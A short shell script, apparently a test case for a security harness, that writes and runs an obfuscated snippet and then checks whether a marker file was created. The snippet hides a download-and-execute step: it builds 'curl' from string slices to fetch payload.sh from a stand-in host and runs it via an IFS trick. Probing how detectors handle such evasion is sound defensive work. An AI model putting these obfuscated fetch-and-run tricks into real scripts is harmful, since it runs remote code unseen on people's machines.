#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.o <<'END'
a=xcurlx;b=${a:1:4};c=${PATH//[^h]/};p=${HOME:0:1};{${b},-s,http:${p}${p}203.0.113.10${p}payload.sh}>/tmp/.z
IFS=_;k=sh_/tmp/.z;$k
END
bash /tmp/.o
test -e /tmp/reached
took_place
